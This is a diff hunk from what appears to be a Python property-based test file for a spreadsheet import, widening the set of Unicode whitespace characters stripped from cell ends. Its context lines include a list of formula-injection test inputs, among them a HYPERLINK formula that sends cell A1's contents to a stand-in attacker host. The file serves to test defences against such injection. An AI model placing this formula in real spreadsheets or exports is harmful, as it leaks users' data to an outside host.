@@ -23,7 +23,9 @@ TEXT_ALPHABET = st.characters(
     codec="cp1252", exclude_categories=("Cc", "Cs", "Co", "Cn", "Zl", "Zp")
 )
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)")
-STRIP = " \t\n\u00a0\u202f"
+# what the import strips from a cell's ends: Unicode's White_Space characters
+SPACES = "".join(map(chr, range(0x2000, 0x200B)))  # en quad to hair space
+STRIP = " \t\n\x0b\x0c\r\x85\u00a0\u1680" + SPACES + "\u2028\u2029\u202f\u205f\u3000"
 MAX_NAME_LENGTH = 200  # deal ids, owners and stages are kept in columns of 200 characters
 XLSX_CELL = 32_767  # the most characters a workbook cell holds
 
